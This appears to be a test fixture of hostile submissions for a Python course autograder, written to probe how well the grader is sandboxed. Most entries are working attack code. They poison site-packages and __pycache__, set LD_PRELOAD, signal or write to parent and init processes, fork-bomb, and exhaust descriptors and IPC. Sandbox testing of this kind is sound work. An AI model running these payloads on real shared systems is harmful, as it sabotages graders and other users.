"""Poison for whoever is graded next: a neighbour follows each of these."""

from __future__ import annotations

from tests.hostile.attack import answer

SPY = """
import glob, os

def L1(yhat, y):
    for place in ("/tmp", "/scratch", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"):
        for path in glob.glob(f"{place}/*"):
            boast(path)
    for name in os.environ:
        if "HOSTILE" in name or name in ("LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP"):
            boast(name)
    return 0.0
"""


ATTACKS = (
    answer(
        "files-left-behind",
        "I7",
        "It leaves files wherever it may write, for the next one to find.",
        """
        import os

        def L1(yhat, y):
            for place in ("/tmp", "/scratch", "/dev/shm", "/var/tmp", "/run", "."):
                try:
                    open(f"{place}/workbook-hostile-left", "w").write("for you")
                except OSError:
                    pass
            return 0.0
        """,
    ),
    answer("first-spy", "C5", "It looks for what the one before it left behind.", SPY),
    answer(
        "infected-packages",
        "I8",
        "It writes sitecustomize, .pth files, user site and changed packages.",
        """
        import os, site, sys, course_utils

        def L1(yhat, y):
            evil = "import os; os._exit(0)"
            files = (np.__file__, course_utils.__file__, sys.executable)
            places = [*sys.path, *map(os.path.dirname, files), sys.prefix, "/env",
                      site.getusersitepackages(), "/env/inside", "/env/course"]
            for place in places:
                for name in ("sitecustomize.py", "a.pth", "numpy.py", "__init__.py"):
                    try:
                        os.makedirs(place, exist_ok=True)
                        with open(f"{place}/{name}", "a") as file:
                            file.write(evil)
                        if not place.startswith(("/scratch", "/tmp")): boast(place)
                    except OSError:
                        pass
            return 0.0
        """,
    ),
    answer(
        "infected-caches",
        "I8",
        "It writes compiled modules into every __pycache__ beside what is imported.",
        """
        import os, sys

        def L1(yhat, y):
            for module in list(sys.modules.values()):
                path = getattr(module, "__file__", None) or ""
                cache = os.path.join(os.path.dirname(path), "__pycache__")
                for target in (path, f"{cache}/workbook-hostile.pyc"):
                    try:
                        open(target, "r+b" if target == path else "wb")
                        boast(target)
                    except OSError:
                        pass
            return 0.0
        """,
    ),
    answer(
        "changed-surroundings",
        "I7",
        "It changes variables, folder, mask, limits, name, priority and the desk's "
        "modules.",
        """
        import os, resource, sys
        import course_utils.desk.plain as plain

        os.environ.update(LD_PRELOAD="/tmp/x.so", PYTHONPATH="/tmp", HOSTILE="1")
        os.umask(0o777)
        os.chdir("/tmp")
        os.nice(19)
        for name in ("RLIMIT_NOFILE", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU"):
            number = getattr(resource, name)
            soft, hard = resource.getrlimit(number)
            resource.setrlimit(number, (soft, hard))
        np.abs = np.sum = np.dot = np.exp = lambda *a, **k: 0.0
        plain.encode = lambda value: ({"list": []}, [])
        for name in list(sys.modules):
            if name.startswith(("numpy", "course_utils")):
                del sys.modules[name]

        def L1(yhat, y): return 0.0
        """,
    ),
    answer(
        "signals-to-the-maker",
        "I7",
        "It sends every signal to whoever made it, from itself and from children.",
        """
        import os, signal

        def send():
            for pid in {os.getppid(), 1, 2, 3, 4, 5, facts["grader"]} - {os.getpid()}:
                for number in range(1, 65):
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
            for group in (os.getpgrp(), os.getsid(0), 1):
                try:
                    os.killpg(group, signal.SIGSTOP) if group > 1 else None
                except OSError:
                    pass

        def L1(yhat, y):
            if os.fork() == 0:
                send()
                os._exit(0)
            send()
            return 0.0
        """,
    ),
    answer(
        "left-threads-and-children",
        "I7",
        "It leaves threads and children behind that burn the processor after it is "
        "graded.",
        """
        import os, sys, threading, time

        def burn():
            while True: pass

        def L1(yhat, y):
            for _ in range(3):
                threading.Thread(target=burn, daemon=True).start()
            for _ in range(5):
                if os.fork() == 0:
                    os.setsid()
                    code = "while True: pass"
                    os.execv(sys.executable,
                             [sys.executable, "-S", "-c", code, facts["marker"]])
            return 0.0
        """,
    ),
    answer(
        "memory-of-the-maker",
        "I7",
        "It writes into the memory of process 1 and of its parent.",
        """
        import os

        def L1(yhat, y):
            for pid in {os.getppid(), 1} - {os.getpid()}:
                for name in ("mem", "environ", "cwd/x", "root/tmp/x", "fd/1"):
                    try:
                        open(f"/proc/{pid}/{name}", "r+b", 0)
                        boast((pid, name))
                    except OSError:
                        pass
            return 0.0
        """,
    ),
    answer(
        "talk-on-every-file",
        "I7",
        "It sends bytes and file descriptors over every open socket.",
        """
        import array, os, socket

        def L1(yhat, y):
            files = array.array("i", [0, 1, 2])
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)]
            for fd in range(3, 100):
                try:
                    with socket.socket(fileno=os.dup(fd)) as end:
                        end.sendmsg([b"{\\"do\\": \\"fork\\"}"], rights)
                        end.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
            return 0.0
        """,
        says="L1 (not run)",
    ),
    answer(
        "rights-in-flight",
        "I7",
        "It sends descriptors to itself until the kernel allows no more in flight.",
        """
        import array, os, socket

        def L1(yhat, y):
            kept = []
            try:
                while True:
                    a, b = socket.socketpair()
                    a.setblocking(False)
                    files = array.array("i", [a.fileno(), b.fileno()])
                    kept.append((a, b))
                    for _ in range(200):
                        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, files)
                        a.sendmsg([b"x"], [rights])
            except OSError:
                return 0.0
        """,
    ),
    answer(
        "locks-and-keys",
        "C5",
        "It locks shared files and leaves keys, queues and semaphores in the kernel.",
        """
        import ctypes, fcntl, os, sys
        libc = ctypes.CDLL(None, use_errno=True)

        def L1(yhat, y):
            for path in (np.__file__, sys.executable, "/dev/null", "/"):
                try:
                    fd = os.open(path, os.O_RDONLY)
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                except OSError:
                    pass
            for call in ("msgget", "semget", "shmget"):
                if getattr(libc, call)(42, 1, 0o1666) >= 0:
                    boast(call)
            if libc.mq_open(b"/workbook-hostile", 0o102, 0o666, None) >= 0:
                boast("mq_open")
            return 0.0
        """,
    ),
    answer("second-spy", "C5", "It looks again, after all the others.", SPY),
    answer(
        "starved-users",
        "A3",
        "It uses up every process of its user, and stays that way until it is ended.",
        """
        import os, time

        def L1(yhat, y):
            while True:
                try:
                    if os.fork() == 0: time.sleep(600)
                except OSError:
                    time.sleep(600)
        """,
        says="L1 (not run)",
    ),
    answer(
        "endless-exit",
        "A8",
        "It dies in a different way at each call: signals, aborts, broken lines.",
        """
        import os, signal
        calls = open("/tmp/calls", "a")

        def L1(yhat, y):
            number = (signal.SIGKILL, signal.SIGSEGV, signal.SIGBUS)[len(yhat) % 3]
            os.kill(os.getpid(), number)
            os.abort()
        """,
        says="L1 (not run)",
    ),
)
